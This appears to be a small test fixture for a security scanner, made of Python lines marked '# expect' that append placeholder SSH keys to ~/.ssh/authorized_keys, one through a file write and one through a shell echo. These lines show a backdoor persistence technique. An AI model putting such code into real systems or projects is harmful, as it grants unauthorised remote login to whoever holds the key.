import os

path = os.environ["HOME"] + "/.ssh/authorized_keys"
with open(path, "a") as f:  # expect
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexampleexampleexample x\n")  # expect
os.system("echo ssh-rsa AAAAB3NzaC1yc2E >> ~/.ssh/authorized_keys")  # expect
